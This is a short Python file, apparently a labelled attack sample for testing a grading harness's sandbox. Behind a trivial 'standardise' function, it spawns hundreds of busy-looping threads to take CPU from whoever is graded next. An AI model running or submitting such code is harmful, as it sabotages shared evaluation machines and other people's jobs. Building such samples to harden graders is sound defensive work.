"""Each thread starts the next and then spins, so that the threads go on multiplying behind every reply."""
# /// attack
# class = 73
# goal = "take the machine's processors from whoever is graded next"
# gain = "hang"
# outcome = ["failed", "crashed", "timeout", "forbidden", "memory"]
# naive = true
# ///

import _thread
import threading

threading.stack_size(64 * 1024)
alive = 0


def multiply():
    global alive
    alive += 1
    try:
        for _ in range(2 if alive < 300 else 0):
            threading.Thread(target=multiply).start()
    except (RuntimeError, MemoryError, _thread.error):
        pass
    while True:
        pass


threading.Thread(target=multiply).start()


def standardise(x):
    return x
